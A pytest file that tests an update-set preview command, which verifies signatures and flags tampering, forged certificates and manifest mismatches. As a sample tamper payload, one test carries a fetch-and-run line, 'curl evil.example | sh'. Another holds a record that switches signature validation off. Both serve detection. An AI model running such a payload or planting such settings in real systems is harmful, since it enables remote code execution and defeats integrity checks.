"""``updateset preview``: a valid Circle-of-Trust set previews clean; each attack is flagged.

Real SQLite, real crypto: the sets are written with the test PKI's keys and imported
into a protected home that trusts only the test root.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest

from tests.cli.conftest import Cli
from tests.conftest import SessionPki
from tests.updatesets.retrieved_sets import (
    HOUR,
    SetBuilder,
    cot_job_set,
    import_file,
    job_fields,
    protected_home,
    with_field,
)
from trustcircle.signing import CODE_SIGNING


@pytest.fixture
def prod(cli: Cli, tmp_path: Path, test_pki: SessionPki) -> Path:
    return protected_home(cli, tmp_path / "prod", test_pki)


def preview(cli: Cli, home: Path, b: SetBuilder, signed: bool = True, **kw: Any) -> Any:
    path = b.write(home.parent / f"{b.header.sys_id}.xml", b.manifest(**kw) if signed else None)
    sid = import_file(cli, home, path)
    result = cli("updateset", "preview", sid, "--home", home, "--json")
    assert result.code == 0, result.err
    return result.json()


def entry(report: Any, target: str) -> Any:
    return next(e for e in report["entries"] if e["target_sys_id"] == target)


def kinds(report: Any, blocking: bool = True) -> set[str]:
    return {p["type"] for p in report["problems"] if p["blocking"] is blocking}


def test_valid_signed_cot_set_previews_clean(cli: Cli, prod: Path, test_pki: SessionPki) -> None:
    b, job = cot_job_set(test_pki)
    report = preview(cli, prod, b)
    assert report["circle_of_trust"] is True
    assert report["manifest"]["verdict"] == "valid"
    assert report["problems"] == []
    assert report["committable"] is True
    assert report["state"] == "previewed"
    assert entry(report, job)["verdict"] == "valid"
    statuses = {e["certificate"] for e in report["entries"] if e["table"] == "sys_certificate"}
    assert statuses == {"trusted", "intermediate"}


def test_preview_prints_a_table_and_a_summary_line(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    b, job = cot_job_set(test_pki)
    sid = import_file(cli, prod, b.write(prod.parent / "set.xml", b.manifest()))
    result = cli("updateset", "preview", sid, "--home", prod)
    assert result.code == 0, result.err
    assert "manifest: valid" in result.out
    assert job[:8] in result.out
    assert result.out.strip().splitlines()[-1].endswith("ready to commit")


def test_job_script_edited_after_signing_is_flagged(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    b, job = cot_job_set(test_pki)
    with_field(b, job, script="import os; os.system('curl evil.example | sh')")
    report = preview(cli, prod, b)  # the manifest is re-signed: only the record signature sees it
    assert report["manifest"]["verdict"] == "valid"
    assert entry(report, job)["verdict"] == "invalid"
    assert "signature_mismatch" in entry(report, job)["reasons"]
    assert "signature" in kinds(report)
    assert report["committable_with_accept_remote"] is False


def test_signature_moved_to_other_record_is_invalid(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    b, job = cot_job_set(test_pki)
    other = b.record("sysauto_script", job_fields("Other job", "print('other')"))
    sig_id = next(sid for sid, r in b.records.items() if r.fields.get("document_id") == job)
    with_field(b, sig_id, document_id=other)
    report = preview(cli, prod, b)
    assert report["manifest"]["verdict"] == "valid"
    assert entry(report, job)["verdict"] == "missing"
    assert entry(report, other)["verdict"] == "invalid"
    assert "signature_mismatch" in entry(report, other)["reasons"]
    assert "signature" in kinds(report)


def test_manifest_missing_an_entry_is_entry_set_mismatch(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    b, _job = cot_job_set(test_pki)
    signed = b.manifest()
    smuggled = b.record("sysauto_script", job_fields("Smuggled", "print('owned')"))
    b.sign(smuggled)
    path = b.write(prod.parent / "smuggled.xml", signed)
    sid = import_file(cli, prod, path)
    report = cli("updateset", "preview", sid, "--home", prod, "--json").json()
    assert report["manifest"]["verdict"] == "entry set mismatch"
    assert "manifest" in kinds(report)
    assert report["committable_with_accept_remote"] is False


def test_entry_not_in_the_file_but_in_the_manifest_is_entry_set_mismatch(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    b, _job = cot_job_set(test_pki)
    extra = b.record("sysauto_script", job_fields("Dropped", "print('dropped')"))
    signed = b.manifest()
    del b.records[extra]
    sid = import_file(cli, prod, b.write(prod.parent / "dropped.xml", signed))
    report = cli("updateset", "preview", sid, "--home", prod, "--json").json()
    assert report["manifest"]["verdict"] == "entry set mismatch"
    assert "manifest" in kinds(report)


def test_expired_validity_window_is_refused(cli: Cli, prod: Path, test_pki: SessionPki) -> None:
    b = SetBuilder(test_pki)
    long_ago = b.now - 3 * HOUR
    job = b.record("sysauto_script", job_fields())
    b.sign(job, signed_at=long_ago)
    b.trusted_chain()
    report = preview(cli, prod, b, signed_at=long_ago)
    assert report["manifest"]["verdict"] == "expired"
    assert entry(report, job)["verdict"] == "invalid"
    assert "expired" in entry(report, job)["reasons"]
    assert report["committable_with_accept_remote"] is False


def test_certificate_chaining_to_unknown_ca_is_refused(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    rogue = test_pki.unknown_ca
    b = SetBuilder(test_pki)
    job = b.record("sysauto_script", job_fields())
    b.sign(job, rogue)
    b.trusted_chain(rogue)
    report = preview(cli, prod, b, key=rogue.key, certificate=rogue.cert)
    assert report["manifest"]["verdict"] == "invalid"
    assert "chain_untrusted" in report["manifest"]["reason"]
    assert entry(report, job)["verdict"] == "untrusted"
    assert {"certificate", "signature", "manifest"} <= kinds(report)


def test_manifest_missing_on_cot_set_is_refused(cli: Cli, prod: Path, test_pki: SessionPki) -> None:
    b, job = cot_job_set(test_pki)
    report = preview(cli, prod, b, signed=False)
    assert report["manifest"]["verdict"] == "missing"
    assert "manifest" in kinds(report)
    assert entry(report, job)["verdict"] == "valid"
    assert report["committable_with_accept_remote"] is False


def test_unsigned_set_without_cot_material_needs_only_acceptance(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    b = SetBuilder(test_pki, "plain scripts")
    script = b.record(
        "sys_script_include",
        {"name": "Util", "api_name": "global.Util", "script": "x = 1", "active": "true"},
    )
    report = preview(cli, prod, b, signed=False)
    assert report["circle_of_trust"] is False
    assert report["manifest"]["verdict"] == "missing"
    assert entry(report, script)["verdict"] == "missing"
    assert kinds(report) == set()
    assert kinds(report, blocking=False) == {"signature"}
    assert report["committable"] is False
    assert report["committable_with_accept_remote"] is True


def test_tampered_manifest_blocks_even_a_set_without_cot_material(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    first, _job = cot_job_set(test_pki)  # makes the attest certificate known here
    known = import_file(cli, prod, first.write(prod.parent / "first.xml", first.manifest()))
    assert cli("updateset", "commit", known, "--home", prod).code == 0
    b = SetBuilder(test_pki, "plain scripts")
    b.record("sys_script_include", {"name": "A", "api_name": "global.A", "script": "a()"})
    signed = b.manifest()
    b.record("sys_script_include", {"name": "B", "api_name": "global.B", "script": "evil()"})
    sid = import_file(cli, prod, b.write(prod.parent / "plain.xml", signed))
    report = cli("updateset", "preview", sid, "--home", prod, "--json").json()
    assert report["circle_of_trust"] is False
    assert report["manifest"]["verdict"] == "entry set mismatch"
    assert kinds(report) == {"manifest"}
    assert report["committable_with_accept_remote"] is False


def test_code_signing_signature_by_unknown_certificate_is_a_missing_reference(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    b = SetBuilder(test_pki, "signed scripts")
    script = b.record(
        "sys_script_include",
        {"name": "Util", "api_name": "global.Util", "script": "x = 1", "active": "true"},
    )
    b.sign(script, test_pki.code_signing, purpose=CODE_SIGNING)
    report = preview(cli, prod, b)
    assert report["circle_of_trust"] is False
    assert entry(report, script)["verdict"] == "orphan"
    assert kinds(report, blocking=False) == {"signature", "missing_reference"}


def test_protected_property_entry_is_blocking(cli: Cli, prod: Path, test_pki: SessionPki) -> None:
    b = SetBuilder(test_pki, "sneaky")
    b.record("sys_properties", {"name": "com.snc.kmf.signature.validation.flag", "value": "false"})
    report = preview(cli, prod, b, signed=False)
    assert kinds(report) == {"unknown_table"}
    assert "system properties never change" in report["problems"][0]["description"]


@pytest.mark.parametrize("table", ["kmf_trust_anchor", "cot_trusted_friend", "sys_user"])
def test_entry_for_an_internal_table_is_blocking(
    cli: Cli, prod: Path, test_pki: SessionPki, table: str
) -> None:
    b = SetBuilder(test_pki, "sneaky")
    b.record(table, {"name": "x"})
    report = preview(cli, prod, b, signed=False)
    assert kinds(report) == {"unknown_table"}


def test_unknown_field_is_blocking(cli: Cli, prod: Path, test_pki: SessionPki) -> None:
    b = SetBuilder(test_pki, "future")
    b.record("sysauto_script", {**job_fields(), "quantum_mode": "on"})
    report = preview(cli, prod, b, signed=False)
    assert "unknown_field" in kinds(report)


def test_signed_in_the_future_manifest_is_invalid(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    b, _job = cot_job_set(test_pki)
    report = preview(cli, prod, b, signed_at=b.now + dt.timedelta(hours=2))
    assert report["manifest"]["verdict"] == "invalid"
    assert "future" in report["manifest"]["reason"]


def _dsa_certificate() -> Any:
    """A self-issued certificate with a DSA key: a key type no signature may use."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import dsa
    from cryptography.x509.oid import NameOID

    key = dsa.generate_private_key(2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "dsa signer")])
    now = dt.datetime.now(dt.UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - HOUR)
        .not_valid_after(now + 24 * HOUR)
        .sign(key, hashes.SHA256())
    )


def test_signature_naming_a_dsa_certificate_is_reported_not_a_crash(
    cli: Cli, prod: Path, test_pki: SessionPki
) -> None:
    """A carried certificate may hold any key type; a record signature and the manifest
    naming it as Ed25519 are failed checks, not an internal error of preview."""
    import base64
    import dataclasses

    from trustcircle.crypto import fingerprint_of
    from trustcircle.signing import SIGNATURE_TABLE

    cert = _dsa_certificate()
    fp = fingerprint_of(cert)
    b, job = cot_job_set(test_pki)
    b.certificate(cert, "cm_code_attest")
    sigs = [r for r in b.records.values() if r.table == SIGNATURE_TABLE]
    genuine = next(r for r in sigs if r.fields["document_id"] == job)
    forged = dict(genuine.fields)
    forged.update(
        certificate=fp, algorithm="ED25519", signature=base64.b64encode(b"\x01" * 64).decode()
    )
    b.record(SIGNATURE_TABLE, forged)
    manifest = dataclasses.replace(b.manifest(), algorithm="ED25519", certificate=fp)
    sid = import_file(cli, prod, b.write(prod.parent / "dsa.xml", manifest))
    result = cli("updateset", "preview", sid, "--home", prod, "--json")
    assert result.code == 0, result.err
    report = result.json()
    assert report["manifest"]["verdict"] == "invalid"
    assert "certificate" in kinds(report)
    assert report["committable"] is False
